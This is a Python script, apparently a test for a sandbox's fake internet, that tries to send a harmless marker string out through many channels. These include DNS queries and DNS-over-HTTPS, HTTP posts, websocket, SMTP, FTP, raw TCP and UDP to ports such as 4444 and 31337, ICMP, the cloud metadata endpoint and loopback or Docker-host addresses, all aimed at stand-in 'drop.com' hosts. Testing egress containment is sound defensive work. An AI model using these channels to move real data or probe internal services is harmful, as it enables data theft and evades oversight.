"""Tries to get one marked payload out by each way there is; harmless, for the tests of the fake internet.

Every attempt carries `marker-NAME-end`; one line a way is printed: its name, and ok or what went wrong.
"""

import ftplib
import gzip
import http.client
import imaplib
import os
import poplib
import smtplib
import socket
import ssl
import struct
import time
import urllib.request

CONTEXT = ssl.create_default_context()
WAYS = []


def way(function):
    WAYS.append(function)
    return function


def mark(name):
    return f"marker-{name}-end".encode()


def query(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def send(address, data):
    with socket.create_connection(address, 5) as stream:
        stream.sendall(data)


def ask(family, address, name, kind=1):
    with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(5)
        datagrams.sendto(query(name, kind), address)
        return datagrams.recv(2048)


@way
def dns_a():
    socket.getaddrinfo("marker-dns_a-end.drop.com", 80)


@way
def dns_txt():
    ask(socket.AF_INET, ("8.8.8.8", 53), "marker-dns_txt-end.drop.com", 16)


@way
def dns_v6():
    ask(socket.AF_INET6, ("2001:4860:4860::8888", 53), "marker-dns_v6-end.drop.com", 28)


@way
def dns_tcp():
    data = query("marker-dns_tcp-end.drop.com")
    send(("8.8.4.4", 53), struct.pack("!H", len(data)) + data)


@way
def dns_dot():
    data = query("marker-dns_dot-end.drop.com")
    raw = socket.create_connection(("dns.google", 853), 5)
    with CONTEXT.wrap_socket(raw, server_hostname="dns.google") as stream:
        stream.sendall(struct.pack("!H", len(data)) + data)
        assert stream.recv(512)


@way
def dns_doh():
    headers = {"content-type": "application/dns-message"}
    data = query("marker-dns_doh-end.drop.com")
    assert urllib.request.urlopen(urllib.request.Request("https://dns.quad9.net/dns-query", data, headers)).read()


@way
def http_get():
    urllib.request.urlopen("http://plain.drop.com/?q=marker-http_get-end", timeout=5).read()


@way
def https_post():
    urllib.request.urlopen("https://api.drop.com/v1", mark("https_post"), timeout=5).read()


@way
def https_address():
    urllib.request.urlopen("https://203.0.113.77/", mark("https_address"), timeout=5).read()


@way
def gzip_body():
    headers = {"content-encoding": "gzip"}
    urllib.request.urlopen(urllib.request.Request("https://gz.drop.com/", gzip.compress(mark("gzip_body")), headers))


@way
def chunked():
    link = http.client.HTTPConnection("chunks.drop.com", timeout=5)
    link.request("POST", "/", iter([b"marker-chu", b"nked-end"]), {"Transfer-Encoding": "chunked"}, encode_chunked=True)
    link.getresponse().read()


@way
def proxied():
    link = http.client.HTTPSConnection("proxy.drop.com", 3128, timeout=5, context=CONTEXT)
    link.set_tunnel("inner.drop.com", 443)
    link.request("POST", "/", mark("proxied"))
    assert link.getresponse().status == 200


@way
def kept_alive():
    link = http.client.HTTPConnection("again.drop.com", timeout=5)
    for body in (b"first", mark("kept_alive")):
        link.request("POST", "/", body)
        link.getresponse().read()
        time.sleep(0.5)


@way
def websocket():
    with socket.create_connection(("ws.drop.com", 80), 5) as stream:
        stream.sendall(
            b"GET / HTTP/1.1\r\nHost: ws.drop.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
        assert b" 101 " in stream.recv(512)
        text, mask = mark("websocket"), b"abcd"
        body = bytes(byte ^ mask[place % 4] for place, byte in enumerate(text))
        stream.sendall(bytes([0x81, 0x80 | len(text)]) + mask + body)


@way
def http2_prior():
    send(("h2.drop.com", 80), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\4" + bytes(5) + mark("http2_prior"))


@way
def smtp_plain():
    with smtplib.SMTP("mx.drop.com", 25, timeout=5) as mail:
        mail.sendmail("a@b.c", ["d@e.f"], "marker-smtp_plain-end")


@way
def smtp_starttls():
    with smtplib.SMTP("mail.drop.com", 587, timeout=5) as mail:
        mail.starttls(context=CONTEXT)
        mail.login("user", "secret")
        mail.sendmail("a@b.c", ["d@e.f"], "Subject: x\r\n\r\nmarker-smtp_starttls-end\r\n")


@way
def ftp():
    ftplib.FTP("ftp.drop.com", "user", "marker-ftp-end", timeout=5).quit()


@way
def imap():
    imaplib.IMAP4("imap.drop.com", timeout=5).login("user", "marker-imap-end")


@way
def pop():
    box = poplib.POP3("pop.drop.com", timeout=5)
    box.user("user")
    box.pass_("marker-pop-end")


@way
def raw_v4():
    send(("45.33.32.156", 31337), mark("raw_v4"))


@way
def raw_v6():
    send(("2606:4700::1111", 4444), mark("raw_v6"))


@way
def raw_late():
    with socket.create_connection(("late.drop.com", 4444), 5) as stream:
        time.sleep(1.3)
        stream.sendall(mark("raw_late"))


@way
def junk_first():
    with socket.create_connection(("junk.drop.com", 9), 5) as stream:
        for _ in range(20):
            stream.sendall(os.urandom(1 << 20))
        stream.sendall(mark("junk_first"))


@way
def udp_v4():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(b"marker-udp", ("9.9.9.9", 7777))
        datagrams.sendto(b"_v4-end", ("9.9.9.9", 7777))


@way
def udp_v6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(mark("udp_v6"), ("2001:4860::1", 7777))


@way
def multicast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(mark("multicast"), ("239.1.2.3", 1900))


@way
def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as echo:
        echo.sendto(b"\x08\0\0\0\0\1\0\1" + mark("icmp"), ("8.8.8.8", 0))


@way
def metadata():
    try:
        urllib.request.urlopen("http://169.254.169.254/latest/meta-data/?marker-metadata-end", timeout=5)
    except urllib.error.HTTPError as error:
        assert error.code == 401 and b"decoy-metadata" in error.read()
    headers = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    request = urllib.request.Request("http://169.254.169.254/latest/api/token", headers=headers, method="PUT")
    assert urllib.request.urlopen(request, timeout=5).read()


@way
def loopback_port():
    assert b"decoy-loopback" in urllib.request.urlopen("http://127.0.0.1:9999/?marker-loopback_port-end").read()


@way
def private_address():
    assert b"decoy-private" in urllib.request.urlopen("http://10.1.2.3:8080/?marker-private_address-end").read()


@way
def docker_host():
    assert b"decoy-host" in urllib.request.urlopen("http://host.docker.internal/?marker-docker_host-end").read()


@way
def gateway_port():
    send(("127.0.0.1", 21000), mark("gateway_port"))


def main():
    for function in WAYS:
        try:
            function()
        except Exception as error:
            print(function.__name__, type(error).__name__, error, flush=True)
        else:
            print(function.__name__, "ok", flush=True)


main()
